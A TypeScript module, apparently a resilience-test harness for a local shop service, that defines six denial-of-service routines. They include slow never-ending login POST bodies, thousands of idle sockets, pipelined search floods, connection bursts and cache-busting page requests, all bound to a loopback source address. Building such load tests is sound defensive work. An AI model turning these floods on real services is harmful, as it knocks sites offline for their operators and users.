import { connect, type Socket } from 'node:net';

/** The address all attacks come from. */
const localAddress = '127.0.0.66';

/** An attack with one computer on the shop at this host and port. */
export type Attack = (target: { host: string; port: number }) => void;

/** A thousand sign-ins whose bodies never end, four bytes a second each. */
const halfBodies: Attack = (target) => {
  keepOpen(1_000, target, (socket) => {
    socket.write(
      'POST /api/auth/login HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: 10000\r\n\r\n{"id',
    );
    const dripping = setInterval(() => socket.write('aaaa'), 1_000);
    socket.once('close', () => clearInterval(dripping));
  });
};

const silentSockets: Attack = (target) => keepOpen(5_000, target, () => {});

/** A thousand searches in one piece; hangs up a second later, and begins again. */
const pipelined: Attack = (target) => {
  keepOpen(1, target, (socket) => {
    socket.write(Array.from({ length: 1_000 }, search).join(''));
    setTimeout(() => socket.destroy(), 1_000);
  });
};

/** Forty connections, each of which searches again as soon as it was answered. */
const searches: Attack = (target) => {
  keepOpen(40, target, (socket) => {
    socket.write(search());
    socket.on('data', () => socket.write(search()));
  });
};

/** Three hundred new connections at once, each for one search, again and again. */
const burst: Attack = (target) => {
  keepOpen(300, target, (socket) => {
    socket.write(search());
    socket.once('data', () => socket.destroy());
  });
};

/** Forty connections that ask for pages that nobody has asked for. */
const newPages: Attack = (target) => {
  const ask = () => `GET /product/${randomWord()} HTTP/1.1\r\nHost: shop\r\n\r\n`;
  keepOpen(40, target, (socket) => {
    socket.write(ask());
    socket.on('data', () => socket.write(ask()));
  });
};

export const attacks = { halfBodies, silentSockets, pipelined, searches, burst, newPages };
export type AttackName = keyof typeof attacks;

const randomWord = () => Math.random().toString(36).slice(2, 10);

const search = () => {
  const words = Array.from({ length: 8 }, randomWord).join('+');
  return `GET /product?search=${words} HTTP/1.1\r\nHost: shop\r\n\r\n`;
};

/** Opens so many connections, and another one for each that is closed. */
function keepOpen(
  count: number,
  target: { host: string; port: number },
  begin: (socket: Socket) => void,
) {
  const open = () => {
    const socket = connect({ ...target, localAddress });
    socket.on('error', () => {});
    socket.once('connect', () => begin(socket));
    // One that is refused at once would otherwise keep this process busy.
    socket.once('close', () => setTimeout(open, 100));
    socket.resume();
  };
  for (let nth = 0; nth < count; nth += 1) open();
}
